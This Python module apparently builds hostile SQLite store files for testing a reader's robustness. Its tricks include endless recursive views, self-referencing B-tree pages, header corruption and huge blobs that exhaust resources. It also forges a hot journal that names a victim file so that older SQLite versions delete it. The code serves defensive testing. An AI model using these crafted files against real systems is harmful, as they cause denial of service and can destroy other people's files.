"""Tricks that turn a sound store into one that attacks its reader through SQLite.

None needs more than a hex editor or the `sqlite3` program. Byte offsets are those of
<https://sqlite.org/fileformat2.html>.
"""

import re
import shutil
import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
"""The head of a query without an end."""
_INTERIOR_TABLE, _LEAF_TABLE = 5, 13
_JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SYNC_BYTES = 512
VICTIM = "victim.txt"
"""The file beside a store that "a journal that names a file" tries to have deleted."""

Trick = Callable[[Path], None]


def _sql(*statements: str) -> Trick:
    def trick(path: Path) -> None:
        with closing(sqlite3.connect(path, isolation_level=None)) as connection:
            for statement in statements:
                connection.execute(statement)

    return trick


def _view_instead_of(table: str, query: str) -> Trick:
    return _sql(f"ALTER TABLE {table} RENAME TO old_{table}", f"CREATE VIEW {table} AS {query}")


def _schema(change: Callable[[str], str], table: str) -> Trick:
    """Change the SQL of a table in the schema."""

    def trick(path: Path) -> None:
        with closing(sqlite3.connect(path)) as connection, connection:
            connection.execute("PRAGMA writable_schema = ON")
            found = connection.execute("SELECT sql FROM sqlite_schema WHERE name = ?", [table]).fetchone()[0]
            assert change(found) != found
            connection.execute("UPDATE sqlite_schema SET sql = ? WHERE name = ?", [change(found), table])

    return trick


def _bytes(offset: int, content: bytes) -> Trick:
    def trick(path: Path) -> None:
        with path.open("r+b") as file:
            file.seek(offset)
            file.write(content)

    return trick


def _root(path: Path, table: str) -> int:
    with closing(sqlite3.connect(path)) as connection:
        row = connection.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", [table]).fetchone()
    return int(row[0])


def _page_bytes(path: Path) -> int:
    return int.from_bytes(path.read_bytes()[16:18])


def _overlapping_tables(path: Path) -> None:
    root = _root(path, "test")
    _sql("PRAGMA writable_schema = ON", f"UPDATE sqlite_schema SET rootpage = {root} WHERE name = 'manifest'")(
        path
    )


def tree_without_end(path: Path, table: str = "manifest", levels: int = 12) -> None:
    """Make each inner page of a table refer to the next hundreds of times: countless rows in a few pages."""
    page_bytes, root = _page_bytes(path), _root(path, table)
    content = bytearray(path.read_bytes())
    pages = len(content) // page_bytes
    start = (root - 1) * page_bytes
    leaf = content[start : start + page_bytes]
    if leaf[0] == _INTERIOR_TABLE:
        last = int.from_bytes(leaf[8:12])
        leaf = content[(last - 1) * page_bytes : last * page_bytes]
    assert leaf[0] == _LEAF_TABLE, "the table has one page, or one level of them"

    def inner(child: int) -> bytes:
        page = bytearray(page_bytes)
        cells = (page_bytes - 12) // 7
        page[:12] = struct.pack(">BHHHBI", _INTERIOR_TABLE, 0, cells, page_bytes - 5 * cells, 0, child)
        for cell in range(cells):
            offset = page_bytes - 5 * (cell + 1)
            struct.pack_into(">H", page, 12 + 2 * cell, offset)
            page[offset : offset + 5] = struct.pack(">IB", child, 127)
        return bytes(page)

    for level in range(1, levels):
        content += inner(pages + level + 1)
    content += leaf
    content[start : start + page_bytes] = inner(pages + 1)
    content[28:32] = struct.pack(">I", len(content) // page_bytes)
    path.write_bytes(content)


def _other_encoding(path: Path) -> None:
    """The same store in UTF-16."""
    with closing(sqlite3.connect(path)) as old:
        script = "\n".join(old.iterdump())
        pragmas = {
            name: old.execute(f"PRAGMA {name}").fetchone()[0] for name in ("application_id", "user_version")
        }
    path.unlink()
    with closing(sqlite3.connect(path)) as new:
        new.execute("PRAGMA encoding = 'UTF-16le'")
        new.executescript(script)
        for name, value in pragmas.items():
            new.execute(f"PRAGMA {name} = {value}")


def _left_in_the_log(path: Path) -> None:
    """Leave a write-ahead log that turns a table into an endless view, as a killed writer would."""
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("ALTER TABLE manifest RENAME TO old")
        connection.execute(f"CREATE VIEW manifest AS {ENDLESS} SELECT i AS key, '1' AS value FROM n")
        kept = path.with_suffix(".kept")
        kept.mkdir()
        for name in (path.name, f"{path.name}-wal"):
            shutil.copy(path.with_name(name), kept / name)
    for file in kept.iterdir():
        shutil.move(file, path.with_name(file.name))
    kept.rmdir()


def _journal_that_names_a_file(path: Path) -> None:
    """A hot journal that names somebody's file as its super-journal: older versions of SQLite delete that file."""
    victim = path.with_name(VICTIM)
    victim.write_text("somebody's file")
    page_bytes = _page_bytes(path)
    pages = path.stat().st_size // page_bytes
    header = _JOURNAL_MAGIC + struct.pack(">IIIII", 1, 0, pages, _SYNC_BYTES, page_bytes)
    page = path.read_bytes()[:page_bytes]
    checksum = sum(page[at] for at in range(page_bytes - 200, 0, -200)) & 0xFFFFFFFF
    record = struct.pack(">I", 1) + page + struct.pack(">I", checksum)
    name = str(victim).encode()
    tail = struct.pack(">I", pages + 1) + name + struct.pack(">II", len(name), sum(name)) + _JOURNAL_MAGIC
    path.with_name(f"{path.name}-journal").write_bytes(header.ljust(_SYNC_BYTES, b"\0") + record + tail)


def _digests_off(path: Path) -> None:
    """Change numbers, and declare the schema version that has no digests."""
    _sql("UPDATE scalar SET value = 2 * value", "PRAGMA user_version = 1")(path)


def _many_tables(path: Path) -> None:
    with closing(sqlite3.connect(path)) as connection, connection:
        for number in range(3000):
            connection.execute(f"CREATE TABLE t{number} (a, b, c, d)")


TRICKS: dict[str, Trick] = {
    "manifest is an endless view": _view_instead_of("manifest", f"{ENDLESS} SELECT i AS key, '1' AS value FROM n"),
    "manifest is a view of large texts": _view_instead_of(
        "manifest", f"{ENDLESS} SELECT i AS key, hex(zeroblob(100000000)) AS value FROM n LIMIT 100"
    ),
    "manifest is an endless sum": _view_instead_of(
        "manifest", f"{ENDLESS} SELECT count(*) AS key, '1' AS value FROM n"
    ),
    "test is an endless view": _view_instead_of(
        "test", f"{ENDLESS} SELECT i AS id, '', '', '{{}}', 'ok', NULL, '' FROM n"
    ),
    "scalar is an endless view": _view_instead_of("scalar", f"{ENDLESS} SELECT i AS test, '', '', '', 1.0 FROM n"),
    "digest is an endless view": _view_instead_of(
        "digest", f"{ENDLESS} SELECT 'manifest' AS part, max(i) AS digest FROM n"
    ),
    "attachment is sorted without end": _view_instead_of(
        "attachment", f"{ENDLESS} SELECT printf('%s', i * 7919 % 1000003) AS name, '' AS content FROM n"
    ),
    "a trigger": _sql("CREATE TRIGGER more AFTER INSERT ON test BEGIN UPDATE scalar SET value = 0; END"),
    "a generated column": _schema(
        lambda sql: sql.replace(
            "value TEXT NOT NULL", "value TEXT GENERATED ALWAYS AS (hex(zeroblob(100000000))) VIRTUAL NOT NULL"
        ),
        "manifest",
    ),
    "a virtual table": _sql("CREATE VIRTUAL TABLE more USING fts5(content)"),
    "manifest is a virtual table": _sql(
        "ALTER TABLE manifest RENAME TO old", "CREATE VIRTUAL TABLE manifest USING fts5(key, value)"
    ),
    "one table more": _sql("CREATE TABLE more (id)"),
    "three thousand tables more": _many_tables,
    "an index over an expression": _sql("CREATE INDEX more ON manifest (hex(zeroblob(1000000)) || key)"),
    "a collation that nobody knows": _schema(
        lambda sql: sql.replace("key TEXT PRIMARY KEY", "key TEXT COLLATE mine PRIMARY KEY"), "manifest"
    ),
    "another check": _schema(lambda sql: sql.replace("json_valid(value)", "length(value) > 0"), "manifest"),
    "without rowid": _schema(lambda sql: sql.replace("STRICT", "STRICT, WITHOUT ROWID"), "manifest"),
    "text in the schema that is not SQL": _schema(lambda sql: f"{sql} garbage", "series"),
    "a table is gone": _sql("DROP TABLE attachment"),
    "statistics of a planner": _sql("ANALYZE"),
    "a text of 80 MB": _sql("INSERT INTO attachment VALUES ('large', hex(zeroblob(40000000)))"),
    "another encoding": _other_encoding,
    "a log with a view": _left_in_the_log,
    "a journal that names a file": _journal_that_names_a_file,
    "a page size of 3": _bytes(16, b"\0\3"),
    "a page size of 512": _bytes(16, b"\2\0"),
    "a free list that leads nowhere": _bytes(32, struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF)),
    "a free list of tables": _bytes(32, struct.pack(">II", 2, 3)),
    "more pages than there are": _bytes(28, struct.pack(">I", 0x7FFFFFFF)),
    "two tables with one root page": _overlapping_tables,
    "a manifest without end": tree_without_end,
    "tests without end": lambda path: tree_without_end(path, "test"),
    "attachments without end": lambda path: tree_without_end(path, "attachment"),
    "digests without end": lambda path: tree_without_end(path, "digest"),
    "digests switched off": _digests_off,
    "schema 1, with the tables of schema 2": _sql("PRAGMA user_version = 1"),
    "schema 0": _sql("PRAGMA user_version = 0"),
    "schema -1": _sql("PRAGMA user_version = -1"),
    "schema 2147483647": _sql("PRAGMA user_version = 2147483647"),
    "another program's": _sql("PRAGMA application_id = 1"),
    "the newest file format": _bytes(18, b"\3\3"),
    "reserved bytes": _bytes(20, b"\xff"),
}
"""Each trick by its description."""


def plain_name(trick: str) -> str:
    """A trick's description as a file name."""
    return re.sub(r"\W+", "-", trick)
